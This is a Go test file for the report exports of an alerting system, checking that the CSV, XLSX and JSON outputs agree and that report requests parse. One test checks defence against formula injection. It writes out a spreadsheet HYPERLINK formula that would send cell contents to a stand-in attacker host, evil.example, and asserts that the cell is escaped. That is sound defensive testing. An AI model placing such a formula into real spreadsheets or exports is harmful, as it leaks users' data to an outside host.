package report

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"tocsin/alerting"
)

// written is a part of a report as bytes.
func (a *after) written(r *Reporter, part, format string) []byte {
	a.Helper()
	p, f, err := ParseOrder(part, format)
	var b bytes.Buffer
	if err == nil {
		err = r.Write(a.Context(), &b, a.progress.Alert, p, f)
	}
	if err != nil {
		a.Fatalf("%s as %s: %v", part, format, err)
	}
	return b.Bytes()
}

func tableOf(t *testing.T, text []byte) [][]string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatalf("%v: %s", err, text)
	}
	return rows
}

// TestAllFormatsSayTheSame of each part.
func TestAllFormatsSayTheSame(t *testing.T) {
	a := newAfter(t, 7, 20)
	r := a.reporter()
	book, err := excelize.OpenReader(bytes.NewReader(a.written(r, "", "xlsx")))
	if err != nil {
		t.Fatal(err)
	}
	if have := book.GetSheetList(); !slices.Equal(have, []string{"Summary", "Areas", "Failures", "Unreached"}) {
		t.Errorf("the sheets are %q", have)
	}
	for _, row := range []struct{ part, sheet string }{{"summary", "Summary"}, {"areas", "Areas"}, {"failures", "Failures"}, {"unreached", "Unreached"}} {
		table := tableOf(t, a.written(r, row.part, "csv"))
		sheet, err := book.GetRows(row.sheet)
		if err != nil {
			t.Fatal(err)
		}
		for i := range sheet { // A workbook leaves empty cells at the end of a row out.
			for len(sheet[i]) < len(table[0]) {
				sheet[i] = append(sheet[i], "")
			}
		}
		if !slices.EqualFunc(table, sheet, slices.Equal) {
			t.Errorf("%s: the table and the workbook differ: %d and %d rows", row.part, len(table), len(sheet))
		}
		one, err := excelize.OpenReader(bytes.NewReader(a.written(r, row.part, "xlsx")))
		if err != nil || !slices.Equal(one.GetSheetList(), []string{row.sheet}) {
			t.Errorf("%s alone: %v, sheets %q", row.part, err, one.GetSheetList())
		}
	}
	var list []Unreached
	if err := json.Unmarshal(a.written(r, "unreached", "json"), &list); err != nil {
		t.Fatal(err)
	}
	if rows := tableOf(t, a.written(r, "unreached", "csv")); len(list) == 0 || len(rows) != len(list)+1 || rows[1][0] != list[0].Who {
		t.Errorf("%d unreached in JSON, %d rows in CSV", len(list), len(rows))
	}
}

// TestAnEmptyListIsAListToo.
func TestAnEmptyListIsAListToo(t *testing.T) {
	a := newAfter(t, 1, 0)
	if have := string(a.written(a.reporter(), "unreached", "json")); have != "[]\n" {
		t.Errorf("%q", have)
	}
	if have := string(a.written(a.reporter(), "unreached", "csv")); have != "who,kind,sms,push,mail,siren\n" {
		t.Errorf("%q", have)
	}
}

// TestCellsAreNoFormulas: a reference or a reason that looks like one is a text for every spreadsheet.
func TestCellsAreNoFormulas(t *testing.T) {
	for text, want := range map[string]string{"": "", "ada": "ada", "=1+1": "'=1+1", "+49 1": "'+49 1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)",
		"\t=1": "'\t=1", "a=1": "a=1", "'=1": "'=1"} {
		if have := Defused(text); have != want {
			t.Errorf("%q becomes %q, want %q", text, have, want)
		}
	}
	a := newAfter(t, 3, 4)
	r := a.reporter()
	const evil = `=HYPERLINK("https://evil.example/?"&A2)`
	r.Refs = func(_ context.Context, ids []int64) (map[int64]string, error) {
		names := make(map[int64]string)
		for _, id := range ids {
			names[id] = evil
		}
		return names, nil
	}
	rows := tableOf(t, a.written(r, "unreached", "csv"))
	if last := rows[len(rows)-1]; last[0] != "'"+evil {
		t.Errorf("in CSV: %q", last)
	}
	book, err := excelize.OpenReader(bytes.NewReader(a.written(r, "unreached", "xlsx")))
	if err != nil {
		t.Fatal(err)
	}
	cell := fmt.Sprintf("A%d", len(rows))
	formula, err := book.GetCellFormula("Unreached", cell)
	value, _ := book.GetCellValue("Unreached", cell)
	if err != nil || formula != "" || value != evil {
		t.Errorf("in the workbook: formula %q, text %q, %v", formula, value, err)
	}
}

// TestALongListGoesOnOnAnotherSheet, each with its header.
func TestALongListGoesOnOnAnotherSheet(t *testing.T) {
	b, err := newBook()
	if err != nil {
		t.Fatal(err)
	}
	l := b.list("Unreached", []string{"who"}, 4)
	for i := range 7 {
		if err := l.add([]any{fmt.Sprint("P", i)}); err != nil {
			t.Fatal(err)
		}
	}
	var out bytes.Buffer
	if err := b.write(&out); err != nil {
		t.Fatal(err)
	}
	back, err := excelize.OpenReader(&out)
	if err != nil {
		t.Fatal(err)
	}
	var have []string
	for _, name := range back.GetSheetList() {
		rows, err := back.GetRows(name)
		if err != nil {
			t.Fatal(err)
		}
		have = append(have, name+":")
		for _, row := range rows {
			have = append(have, row...)
		}
	}
	if want := "Unreached: who P0 P1 P2 Unreached 2: who P3 P4 P5 Unreached 3: who P6"; strings.Join(have, " ") != want {
		t.Errorf("%q, want %q", have, want)
	}
}

func TestOrdersOfReports(t *testing.T) {
	for _, row := range []struct {
		part, format string
		want         Part
		as           Format
		ok           bool
	}{
		{"", "", Summary, JSON, true}, {"", "csv", Summary, CSV, true}, {"", "xlsx", Whole, XLSX, true}, {"failures", "xlsx", Failures, XLSX, true},
		{"areas", "csv", Areas, CSV, true}, {"unreached", "json", UnreachedPart, JSON, true}, {"everything", "json", "", "", false}, {"summary", "pdf", "", "", false},
	} {
		part, format, err := ParseOrder(row.part, row.format)
		if (err == nil) != row.ok || row.ok && (part != row.want || format != row.as) {
			t.Errorf("%q as %q: %q, %q, %v", row.part, row.format, part, format, err)
		}
	}
	if len(alerting.Channels())+2 != len(unreachedHeader()) {
		t.Error("the list has a column for each channel")
	}
}
